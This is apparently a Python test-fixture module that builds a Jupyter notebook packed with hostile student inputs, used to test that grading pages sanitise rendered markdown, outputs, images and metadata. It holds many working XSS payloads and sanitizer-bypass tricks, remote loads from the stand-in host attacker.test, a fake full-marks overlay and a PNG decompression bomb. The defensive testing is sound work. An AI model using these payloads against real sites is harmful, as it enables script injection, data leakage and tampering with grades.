"""What students might put into a notebook so that it runs, loads, covers or misleads on the pages that show it.

Each payload calls `pwned('its name')` in the page or asks the host attacker.test for something. The browser's tests look
for both; they also show that each payload works where nothing is made safe.
"""

import base64
import io
import zlib

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_raw_cell
from PIL import Image, PngImagePlugin

HOST = "http://attacker.test"


def encoded(raw: bytes | str) -> str:
    return base64.b64encode(raw.encode() if isinstance(raw, str) else raw).decode()


def picture(mode: str = "RGB", size: tuple[int, int] = (40, 20), form: str = "PNG", **extra) -> bytes:
    """A red picture."""
    written = io.BytesIO()
    Image.new(mode, size, "red" if mode.startswith("RGB") else 1).save(written, form, **extra)
    return written.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return len(data).to_bytes(4, "big") + kind + data + zlib.crc32(kind + data).to_bytes(4, "big")


def bomb(side: int = 40_000) -> bytes:
    """A PNG of a few bytes that says it has that many pixels on each side."""
    head = side.to_bytes(4, "big") * 2 + bytes([8, 2, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(10_000))) + chunk(b"IEND", b"")


def with_text() -> bytes:
    """A PNG with HTML in a comment and a script behind its end: a page, for a reader that looks for one."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>pwned('png_comment')</script>")
    return picture(pnginfo=info, icc_profile=b"<script>pwned('png_profile')</script>") + b"<script>pwned('png_end')</script>"


SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"pwned('{0}')\"><script>pwned('{0}')</script></svg>"
MARKDOWN = {
    "script": "<script>pwned('script')</script>",
    "script_inside_a_line": "my answer <script>pwned('script_inside_a_line')</script> goes on",
    "script_not_closed": "<script>pwned('script_not_closed')//",
    "script_in_odd_letters": "<ScRiPt\n>pwned('script_in_odd_letters')</sCrIpT\t>",
    "remote_script": f"<script src={HOST}/remote_script></script>",
    "img_onerror": "<img src=x onerror=\"pwned('img_onerror')\">",
    "img_onerror_slash": "<img/src='x'/onerror=\"pwned('img_onerror_slash')\">",
    "svg_onload": "<svg onload=\"pwned('svg_onload')\">",
    "svg_animation": "<svg><animate onbegin=\"pwned('svg_animation')\" attributeName=x dur=1s></svg>",
    "iframe": "<iframe srcdoc=\"<script>parent.pwned('iframe')</script>\"></iframe>",
    "iframe_javascript": "<iframe src=\"javascript:parent.pwned('iframe_javascript')\"></iframe>",
    "object": f"<object data='{HOST}/object'></object>",
    "embed": f"<embed src='{HOST}/embed'>",
    "base": f"<base href='{HOST}/base/'><img src=x>",
    "link_stylesheet": f"<link rel=stylesheet href='{HOST}/link_stylesheet'>",
    "meta_refresh": f"<meta http-equiv=refresh content='0;url={HOST}/meta_refresh'>",
    "form": f"<form action='{HOST}/form'><input autofocus onfocus=\"pwned('form')\"><button>Next</button></form>",
    "details_ontoggle": "<details open ontoggle=\"pwned('details_ontoggle')\">x</details>",
    "style_sheet": f"<style>@import '{HOST}/style_sheet'; body {{ background: url({HOST}/style_sheet) }}</style>",
    "style_attribute": f"<p style='background: url({HOST}/style_attribute)'>x</p>",
    "overlay": "<div style='position:fixed;inset:0;background:#fff;z-index:9999'>All 60 of 60 points</div>",
    "handler_on_a_simple_tag": "<b onmouseover=\"pwned('handler_on_a_simple_tag')\">bold</b>",
    "remote_picture": f"![a picture]({HOST}/remote_picture)",
    "remote_picture_in_html": f"<img src='{HOST}/remote_picture_in_html'>",
    "remote_video": f"<video autoplay src='{HOST}/remote_video' poster='{HOST}/remote_video'></video>",
    "picture_of_svg": f"![x](data:image/svg+xml;base64,{encoded(SVG.format('picture_of_svg'))})",
    "picture_title": "![a\"onerror=\"pwned('picture_title')](x 'b\"onerror=\"pwned(1)')",
    "attachment_not_there": "![my figure](attachment:lost.png)",
    "link_javascript": "[click](javascript:pwned('link_javascript'))",
    "link_in_odd_letters": "[click](JaVaScRiPt:pwned('link_in_odd_letters'))",
    "link_in_entities": "[click](javascript&#58;pwned('link_in_entities'))",
    "link_in_named_entities": "[click](java&Tab;script&colon;pwned('link_in_named_entities'))",
    "link_with_a_sign_before": "[click](\x01javascript:pwned('link_with_a_sign_before'))",
    "link_in_percent": "[click](%6aavascript:pwned('link_in_percent'))",
    "link_vbscript": "[click](vbscript:pwned('link_vbscript'))",
    "link_data": f"[click](data:text/html;base64,{encoded('<script>opener.pwned(1)</script>')})",
    "link_in_html": "<a href=\"javascript:pwned('link_in_html')\">click</a>",
    "link_by_reference": "[click][1]\n\n[1]: javascript:pwned('link_by_reference')",
    "link_automatic": "<javascript:pwned('link_automatic')>",
    "link_behind_the_files_prefix": "[click](files/javascript:pwned('link_behind_the_files_prefix'))",
    "link_to_a_file_handed_in": "[click](solution.html) [click](/formgrader/gradebook) [click](//attacker.test/x)",
    "link_title": "[click](https://example.org \"x' onmouseover='pwned(`link_title`)\")",
    "comment_that_ends": "<!-- --!><script>pwned('comment_that_ends')</script> -->",
    "cdata": "<![CDATA[<script>pwned('cdata')</script>]]>",
    "fence_that_ends": "```html\n</code></pre><script>pwned('fence_that_ends')</script>\n```",
    "fence_name": "```\"><script>pwned('fence_name')</script>\nx\n```",
    "mermaid": "```mermaid\n</pre><img src=x onerror=\"pwned('mermaid')\">\n```",
    "code_that_ends": "`</code><script>pwned('code_that_ends')</script>`",
    "heading": "# <img src=x onerror=\"pwned('heading')\">",
    "heading_with_the_id_of_a_score": "## saliency_map",
    "table": "| <img src=x onerror=\"pwned('table')\"> | b |\n|---|---|\n| </td></table><script>pwned('table')</script> | d |",
    "namespaces": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned(1)&gt;'>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror="pwned(\'noscript\')">">',
    "template": "<template><script>pwned('template')</script></template>",
    "formula_link": r"$\href{javascript:pwned('formula_link')}{E=mc^2}$",
    "formula_text": r"$\text{<script>pwned('formula_text')</script>}$",
    "formula_text_in_entities": "$\\text{&lt;img src=x onerror=\"pwned('formula_text_in_entities')\"&gt;}$",
    "formula_html": "$<img src=x onerror=\"pwned('formula_html')\">$",
    "formula_block": "$$</math><img src=x onerror=\"pwned('formula_block')\">$$",
    "formula_environment": "\\begin{align}</p><img src=x onerror=\"pwned('formula_environment')\">\\end{align}",
    "formula_style": rf"$\style{{position:fixed;background:url({HOST}/formula_style)}}{{x}}$",
    "formula_class_and_id": r"$\require{html}\class{score}{x}\cssId{top}{y}\unicode[;color:red;]{41}$",
    "formula_macros": r"$\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b}\c\c\c\c\c\c$",
    "formula_without_end": r"$\left(\frac{" + "{" * 900 + "$",
}


def display(data: dict, **more) -> dict:
    return {"output_type": "display_data", "data": data, "metadata": more.pop("metadata", {})} | more


HTML = "<script>pwned('{0}')</script><img src=x onerror=\"pwned('{0}')\"><img src=" + HOST + "/{0}>"
ERROR = {"output_type": "error", "ename": HTML.format("error_name"), "evalue": HTML.format("error_value")}
PNG = encoded(picture())
OUTPUTS = {
    "html": display({"text/html": HTML.format("html"), "text/plain": "<HTML object>"}),
    "html_alone": display({"text/html": HTML.format("html_alone")}),
    "html_isolated": display({"text/html": HTML.format("html_isolated")}, metadata={"text/html": {"isolated": True}}),
    "result_html": display({"text/html": HTML.format("result_html")}, output_type="execute_result", execution_count=1),
    "javascript": display({"application/javascript": "pwned('javascript')"}),
    "svg": display({"image/svg+xml": SVG.format("svg")}),
    "latex": display({"text/latex": HTML.format("latex")}),
    "markdown": display({"text/markdown": HTML.format("markdown")}),
    "mermaid_display": display({"text/vnd.mermaid": HTML.format("mermaid_display")}),
    "pdf": display({"application/pdf": encoded("%PDF-1.4")}),
    "widget": display({"application/vnd.jupyter.widget-view+json": {"model_id": HTML.format("widget")}}),
    "vega": display({"application/vnd.vega.v5+json": {"data": [{"url": f"{HOST}/vega"}]}}),
    "kind_of_data": display({HTML.format("kind_of_data"): "x"}),
    "plain": display({"text/plain": HTML.format("plain")}),
    "plain_that_ends": display({"text/plain": "</pre>" + HTML.format("plain_that_ends")}),
    "stream": {"output_type": "stream", "name": "stdout", "text": "</pre>" + HTML.format("stream")},
    "stream_in_colour": {"output_type": "stream", "name": "stderr", "text": f"\x1b[31m{HTML.format('colour')}\x1b[0m"},
    "stream_in_no_colour": {"output_type": "stream", "name": "stdout", "text": "\x1b[38mone\x1b[48;5mtwo\x1b[999;38;2;1mthree"},
    "stream_with_a_link": {
        "output_type": "stream",
        "name": "stdout",
        "text": "\x1b]8;;javascript:pwned('stream_with_a_link')\x07click\x1b]8;;\x07",
    },
    "error": ERROR | {"traceback": [HTML.format("traceback"), "\x1b[0;31m" + HTML.format("traceback")]},
    "png_that_is_html": display({"image/png": encoded(HTML.format("png_that_is_html"))}),
    "png_that_is_svg": display({"image/png": encoded(SVG.format("png_that_is_svg"))}),
    "png_that_leaves_its_tag": display({"image/png": "AAAA\" onerror=\"pwned('png_that_leaves_its_tag')"}),
    "png_with_text": display({"image/png": encoded(with_text())}),
    "png_too_large": display({"image/png": encoded(bomb())}),
    "png_cut_off": display({"image/png": encoded(picture(size=(300, 300))[:90])}),
    "gif_as_png": display({"image/png": encoded(picture("P", form="GIF"))}),
    "width": display(
        {"image/png": PNG}, metadata={"image/png": {"width": "1 onload=pwned('width')", "height": "1 onload=pwned('width')"}}
    ),
    "alt": display({"image/png": PNG}, metadata={"image/png": {"alt": "\" onload=\"pwned('alt')"}, "alt": "<script>"}),
    "file_name": display({"image/png": PNG}, metadata={"filenames": {"image/png": f"{HOST}/file_name"}}),
}


def notebook() -> NotebookNode:
    """All of it in one notebook, with hostile metadata, names of cells, attachments and raw cells."""
    cells = [new_markdown_cell(source) for source in MARKDOWN.values()]
    for name, output in OUTPUTS.items():
        cells.append(new_code_cell(f"# {name}\n'</pre><script>pwned(\"code_{name}\")</script>'", outputs=[from_dict(output)]))
    tags = {"tags": ["x\" onclick=\"pwned('tags')", "<script>pwned('tags')</script>"], "alt": "' onload=pwned('alt') '"}
    cells.append(new_code_cell("%%html\n" + HTML.format("magic"), metadata=tags | {"magics_language": "html"}))
    kinds = {"image/svg+xml": encoded(SVG.format("attachment")), "image/png": "\" onerror=\"pwned('attachment')"}
    cells.append(new_markdown_cell("![a](attachment:a.png)", attachments={"a.png": kinds}))
    cells += [new_raw_cell(HTML.format("raw"), metadata=raw) for raw in RAW]
    widgets = {"application/vnd.jupyter.widget-state+json": {"state": {}, "x": "</script>" + HTML.format("widget_state")}}
    metadata = {"title": HTML.format("title"), "widgets": widgets, "language_info": {"name": "python"}}
    return new_notebook(cells=cells, metadata=metadata)


RAW = [{"raw_mimetype": "text/html"}, {"raw_mimetype": ""}, {}]
